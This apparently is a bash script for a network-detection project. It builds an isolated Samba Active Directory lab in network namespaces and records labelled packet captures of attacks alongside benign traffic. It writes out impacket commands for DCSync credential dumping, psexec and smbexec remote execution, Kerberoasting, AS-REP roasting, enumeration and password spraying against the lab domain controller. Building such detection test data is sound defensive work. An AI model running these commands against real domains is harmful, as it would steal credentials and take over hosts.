#!/usr/bin/env bash
# Records the labelled Windows-domain captures of testdata/windows/: a Samba
# Active Directory domain controller (Debian's samba, provisioned into a
# directory of its own: nothing under /etc is touched) in a network
# namespace, attacked with impacket's example tools from PyPI by a second
# namespace, and used in everyday ways by a third. One capture per
# technique, dumpcap on the bridge (in a fourth namespace) that joins them.
#
#   $WIN_P-dc  10.251.0.10   DC1.lab.test, Samba AD DC (realm LAB.TEST, domain LAB)
#   $WIN_P-a   10.251.0.66   the attacker (impacket)
#   $WIN_P-b   10.251.0.30   a benign workstation (smbclient, kinit, kvno)
#
# The DC speaks SMB 2.1 at most, without encryption: impacket encrypts every
# SMB3 session a server allows, which would hide the named-pipe traffic
# (against Windows servers it does: a blind spot, see docs/DETECTIONS.md).
# Attacks: secretsdump.py -just-dc (DCSync), psexec.py and smbexec.py
# (service creation over svcctl; Samba refuses CreateServiceW: the attempt
# is on the wire),
# wmiexec.py (DCOM activation; Samba has no DCOM, the bind is refused),
# GetUserSPNs.py -request (Kerberoasting), GetNPUsers.py (AS-REP roasting),
# lookupsid.py and samrdump.py (enumeration), getTGT.py with one password over
# twelve accounts (password spraying), scripts/zerologon-attempt.py
# (NetrServerAuthenticate3 with an all-zero credential, made with impacket;
# Samba is patched and refuses it), scripts/dcshadow-attempt.py (DCShadow's
# DRSReplicaAdd, declared with impacket's NDR classes; Samba faults it).
# Everyday traffic: smbclient listing the shares and a directory, kinit
# (AES) and kvno for a service ticket as a user, the same for a second user.
#
# Needs root, iproute2, samba (samba, samba-tool),
# smbclient, krb5-user (kinit, kvno), dumpcap, python3 with impacket.
# Usage: sudo scripts/record-windows.sh [OUT_DIR] (default testdata/windows);
# WIN_ONLY="dcsync spray" records only those, WIN_P=name prefixes the
# namespaces (two recordings can run at once).
# Captures are stored uncompressed (about 400 KB in all). Labels are in
# OUT_DIR/labels.toml, written by hand from what this script does.
set -euo pipefail

for tool in ip samba samba-tool smbclient kinit kvno dumpcap python3 secretsdump.py; do
    command -v "$tool" >/dev/null || {
        echo "record-windows.sh: needs $tool (see the list at the top of this script)" >&2
        exit 2
    }
done
if [ "$(id -u)" != 0 ]; then
    echo "record-windows.sh: needs root to create network namespaces" >&2
    exit 1
fi

WIN_P=${WIN_P:-nwin}
NET=10.251.0
DC=$NET.10
A=$NET.66
B=$NET.30
HOSTS="dc:10 a:66 b:30"
ADMINPASS='Adm1n-Lab-Pass!'
USERPASS='Us3r-Lab-Pass!'
SPRAYPASS='Winter2026!'
OUT=$(realpath -m "${1:-testdata/windows}")
WORK=$(mktemp -d)
HERE=$(cd "$(dirname "$0")" && pwd)

on() { local h=$1; shift; ip netns exec "$WIN_P-$h" "$@"; }

lab_down() {
    local pair h
    ip netns pids "$WIN_P-sw" 2>/dev/null | xargs -r kill -TERM 2>/dev/null
    sleep 0.5
    for pair in $HOSTS sw:0; do
        h=${pair%%:*}
        ip netns pids "$WIN_P-$h" 2>/dev/null | xargs -r kill 2>/dev/null
    done
    sleep 1
    for pair in $HOSTS sw:0; do
        h=${pair%%:*}
        ip netns del "$WIN_P-$h" 2>/dev/null
    done
    return 0
}

cleanup() {
    set +e
    lab_down
    [ -n "${WIN_LOGS:-}" ] && mkdir -p "$WIN_LOGS" && cp "$WORK"/*.log "$WIN_LOGS"/
    rm -rf "$WORK"
}
trap cleanup EXIT

# --- the LAN ------------------------------------------------------------------
ip netns add "$WIN_P-sw"
ip -n "$WIN_P-sw" link add br0 type bridge
ip -n "$WIN_P-sw" link set br0 up
ip netns exec "$WIN_P-sw" sysctl -qw net.ipv6.conf.all.disable_ipv6=1
for pair in $HOSTS; do
    h=${pair%%:*}
    n=${pair##*:}
    ip netns add "$WIN_P-$h"
    ip link add "$WIN_P-$h" type veth peer name eth0 netns "$WIN_P-$h"
    ip link set "$WIN_P-$h" netns "$WIN_P-sw"
    ip -n "$WIN_P-sw" link set "$WIN_P-$h" master br0 up
    ip -n "$WIN_P-$h" link set lo up
    ip -n "$WIN_P-$h" addr add "$NET.$n/24" dev eth0
    ip -n "$WIN_P-$h" link set eth0 up
    on "$h" sysctl -qw net.ipv6.conf.all.disable_ipv6=1
done

# --- the domain controller ----------------------------------------------------
samba-tool domain provision --realm=LAB.TEST --domain=LAB --server-role=dc \
    --dns-backend=SAMBA_INTERNAL --adminpass="$ADMINPASS" --host-name=DC1 \
    --host-ip="$DC" --targetdir="$WORK/dc" --use-rfc2307 \
    --option="interfaces=lo eth0" --option="bind interfaces only=yes" \
    --option="dns forwarder=127.0.0.1" --option="server smb encrypt=off" \
    --option="server max protocol=SMB2_10" \
    >"$WORK/provision.log" 2>&1
CONF=$WORK/dc/etc/smb.conf
# An ADMIN$ share as Windows hosts have, and print$ (the first share
# psexec.py finds writable) on a directory that exists: psexec.py uploads
# its service binary there before it talks to svcctl.
mkdir -p "$WORK/admin" "$WORK/print"
printf '\n[ADMIN$]\n\tpath = %s\n\tread only = no\n[print$]\n\tpath = %s\n\tread only = no\n' \
    "$WORK/admin" "$WORK/print" >>"$CONF"
st() { samba-tool "$@" -s "$CONF" >>"$WORK/users.log" 2>&1; }
SPRAY_USERS="alice bob carol dave erin frank grace heidi ivan judy mallory oscar"
for u in $SPRAY_USERS; do st user create "$u" "$USERPASS"; done
# Service accounts with SPNs (Kerberoasting targets).
for s in sql:MSSQLSvc/sql.lab.test:1433 web:HTTP/web.lab.test backup:cifs/backup.lab.test; do
    st user create "svc_${s%%:*}" "$USERPASS"
    st spn add "${s#*:}" "svc_${s%%:*}"
done
# An account that does not require Kerberos pre-authentication (AS-REP roasting).
st user create roastme "$USERPASS"
printf '#!/bin/sh\nsed -i "s/^userAccountControl: .*/userAccountControl: %d/" "$1"\n' \
    $((0x200 | 0x400000)) >"$WORK/uac-editor.sh"
chmod +x "$WORK/uac-editor.sh"
st user edit roastme --editor="$WORK/uac-editor.sh"
on dc samba -i -s "$CONF" >"$WORK/samba.log" 2>&1 &
# Wait for the KDC and SMB.
for _ in $(seq 1 60); do
    if on b bash -c "exec 3<>/dev/tcp/$DC/445 && exec 4<>/dev/tcp/$DC/88" 2>/dev/null; then break; fi
    sleep 1
done
sleep 3

cat >"$WORK/krb5.conf" <<EOF
[libdefaults]
    default_realm = LAB.TEST
    dns_lookup_kdc = false
    dns_lookup_realm = false
    rdns = false
[realms]
    LAB.TEST = {
        kdc = $DC
    }
EOF
export KRB5_CONFIG=$WORK/krb5.conf

# --- recording ----------------------------------------------------------------
mkdir -p "$OUT"
cd "$WORK"
# record NAME COMMAND...: one capture of what COMMAND does.
record() {
    local name=$1
    shift
    # WIN_ONLY="a b": record only these.
    if [ -n "${WIN_ONLY:-}" ] && [[ " $WIN_ONLY " != *" $name "* ]]; then
        return 0
    fi
    # Not through on(): a background function's shell would be the pid.
    ip netns exec "$WIN_P-sw" dumpcap -q -P -i br0 -w "$WORK/$name.pcap" >/dev/null 2>&1 &
    local cap=$!
    sleep 2
    echo "== $name: $*" >>"$WORK/$name.log"
    "$@" >>"$WORK/$name.log" 2>&1 || echo "(exit $?)" >>"$WORK/$name.log"
    sleep 2
    # SIGTERM: a background job of a script ignores SIGINT; dumpcap flushes on either.
    kill -TERM "$cap"
    wait "$cap" || true
    cp "$WORK/$name.pcap" "$OUT/$name.pcap"
}
att() { on a timeout 60 "$@"; }

record dcsync att secretsdump.py -just-dc "LAB/Administrator:$ADMINPASS@$DC"
record psexec att psexec.py "LAB/Administrator:$ADMINPASS@$DC" whoami
record smbexec att smbexec.py "LAB/Administrator:$ADMINPASS@$DC"
record wmiexec att wmiexec.py "LAB/Administrator:$ADMINPASS@$DC" whoami
# Samba answers impacket's TGS-REQs with KRB_AP_ERR_INAPP_CKSUM (it refuses
# the checksum of impacket's authenticator); from an AES ticket cache made by
# kinit (-k -no-pass) the LDAP ticket is refused the same way, so no RC4
# service ticket can be had from this KDC with impacket.
record kerberoast att GetUserSPNs.py -request -dc-ip "$DC" "LAB.TEST/alice:$USERPASS"
printf '%s\n' $SPRAY_USERS roastme svc_sql >"$WORK/users.txt"
record asreproast att GetNPUsers.py -no-pass -usersfile "$WORK/users.txt" -dc-ip "$DC" LAB.TEST/
record lookupsid att lookupsid.py "LAB/alice:$USERPASS@$DC" 1200
record samrdump att samrdump.py "LAB/alice:$USERPASS@$DC"
spray() {
    local u
    for u in $SPRAY_USERS; do
        att getTGT.py -dc-ip "$DC" "LAB.TEST/$u:$SPRAYPASS" || true
    done
}
record spray spray
record zerologon att python3 "$HERE/zerologon-attempt.py" DC1 "$DC"
record dcshadow att python3 "$HERE/dcshadow-attempt.py" LAB Administrator "$ADMINPASS" "$DC" \
    "DC=lab,DC=test" "rogue.lab.test"
benign() {
    on b smbclient -L "//$DC" -U "LAB/bob%$USERPASS"
    on b smbclient "//$DC/netlogon" -U "LAB/bob%$USERPASS" -c ls
    echo "$USERPASS" | on b env KRB5CCNAME="FILE:$WORK/cc-carol" kinit carol@LAB.TEST
    on b env KRB5CCNAME="FILE:$WORK/cc-carol" kvno host/dc1.lab.test@LAB.TEST
    on b env KRB5CCNAME="FILE:$WORK/cc-carol" kvno cifs/dc1.lab.test@LAB.TEST
    echo "$USERPASS" | on b env KRB5CCNAME="FILE:$WORK/cc-dave" kinit dave@LAB.TEST
    on b env KRB5CCNAME="FILE:$WORK/cc-dave" kvno ldap/dc1.lab.test@LAB.TEST
    on b smbclient "//$DC/sysvol" -U "LAB/dave%$USERPASS" -c "ls lab.test\\*"
}
record benign benign
echo "recorded into $OUT:"
ls -l "$OUT"
